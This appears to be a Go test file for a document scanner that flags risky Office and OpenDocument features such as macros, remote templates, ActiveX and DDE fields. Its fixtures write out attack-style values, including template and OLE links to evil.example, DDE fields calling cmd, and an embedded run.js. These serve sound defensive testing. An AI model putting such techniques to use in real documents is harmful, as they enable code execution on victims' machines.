package archive

import (
	"slices"
	"strings"
	"testing"
)

// rels makes a relationships part of (type, target, mode).
func rels(list ...[3]string) string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`)
	for _, r := range list {
		b.WriteString(`<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + r[0] + `" Target="` + r[1] + `" TargetMode="` + r[2] + `"/>`)
	}
	return b.String() + `</Relationships>`
}

func TestNewOfficeDocuments(t *testing.T) {
	types := file{name: "[Content_Types].xml", content: "<Types/>", method: 8}
	document := func(body string) file {
		return file{name: "word/document.xml", content: `<w:document xmlns:w="w"><w:body>` + body + `</w:body></w:document>`, method: 8}
	}
	relations := func(list ...[3]string) file {
		return file{name: "word/_rels/document.xml.rels", content: rels(list...), method: 8}
	}
	project := string(makeOLE(vbaProject("Module1", macro)...))
	for _, test := range []struct {
		name    string
		files   []file
		symbols []string
		links   []string
	}{
		{"nothing special", []file{types, document("<w:p>text</w:p>"), relations([3]string{"styles", "styles.xml", ""})}, nil, nil},
		{"macros", []file{types, {name: "word/vbaProject.bin", content: project, method: 8}}, []string{"office autorun", "office macro"}, nil},
		{"macros under another name", []file{types, {name: "word/theme.dat", content: project}}, []string{"office autorun", "office macro"}, nil},
		{"an Excel 4.0 macro sheet", []file{types, {name: "xl/macrosheets/sheet1.xml", content: "<x/>", method: 8}}, []string{"office xlm"}, nil},
		{"a macro sheet under another name", []file{types, relations([3]string{"xlMacrosheet", "sheets/s.xml", ""})}, []string{"office xlm"}, nil},
		{"a template from the network", []file{types, relations([3]string{"attachedTemplate", "http://evil.example/t.dotm", "External"})}, []string{"office template"}, []string{"template http://evil.example/t.dotm"}},
		{"a template from a share", []file{types, relations([3]string{"attachedTemplate", `\\evil.example\t.dotm`, "External"})}, []string{"office template"}, []string{`template \\evil.example\t.dotm`}},
		{"the author's own template", []file{types, relations([3]string{"attachedTemplate", "file:///C:/Users/x/Normal.dotm", "External"})}, nil, []string{"template file:///C:/Users/x/Normal.dotm"}},
		{"an object from the network", []file{types, relations([3]string{"oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x", "External"})}, []string{"office link"}, nil},
		{"a link to click", []file{types, relations([3]string{"hyperlink", "https://www.example.com/", "External"})}, nil, []string{"uri https://www.example.com/"}},
		{"an ActiveX control", []file{types, relations([3]string{"control", "activeX/activeX1.xml", ""})}, []string{"office activex"}, nil},
		{"a DDE field cut into runs", []file{types, document(`<w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd</w:instrText><w:fldChar w:fldCharType="end"/>`)}, []string{"office dde"}, nil},
		{"a simple DDE field", []file{types, document(`<w:fldSimple w:instr=" dde cmd "/>`)}, []string{"office dde"}, nil},
		{"a page number", []file{types, document(`<w:fldSimple w:instr=" PAGE "/>`)}, nil, nil},
		{"a DDE link of a workbook", []file{types, {name: "xl/externalLinks/externalLink1.xml", content: `<externalLink><ddeLink ddeService="cmd"/></externalLink>`, method: 8}}, []string{"office dde"}, nil},
		{"an embedded file", []file{types, {name: "word/embeddings/oleObject1.bin", content: string(makeOLE(oleEntry{name: "\x01Ole10Native", content: nativePackage("run.js", eicar)})), method: 8}}, []string{"office object"}, nil},
		{"an OpenDocument text with Basic", []file{{name: "mimetype", content: "application/vnd.oasis.opendocument.text"}, {name: "Basic/script-lc.xml", content: "<x/>"}}, []string{"office macro"}, nil},
		{"an OpenDocument text with a password", []file{{name: "mimetype", content: "application/vnd.oasis.opendocument.text"}, {name: "META-INF/manifest.xml", content: "<m><encryption-data/></m>"}}, []string{"office encrypted"}, nil},
		{"a zip that is no document", []file{{name: "word/vbaProject.bin", content: "x"}}, nil, nil},
	} {
		t.Run(test.name, func(t *testing.T) {
			w := open(t, "a.docx", makeZip(t, test.files...), Limits{})
			w.expect(t, test.symbols...)
			for _, want := range test.links {
				if !slices.ContainsFunc(w.Links, func(l Link) bool { return l.Kind+" "+l.URL == want }) {
					t.Errorf("no link %q among %v", want, w.Links)
				}
			}
		})
	}
}

func TestPartsInUTF16AreRead(t *testing.T) {
	part := "\xff\xfe" + utf16Text(rels([3]string{"attachedTemplate", "http://evil.example/t", "External"}))
	w := open(t, "a.docx", makeZip(t, file{name: "[Content_Types].xml", content: "<T/>"}, file{name: "word/_rels/settings.xml.rels", content: part}), Limits{})
	w.expect(t, "office template")
}
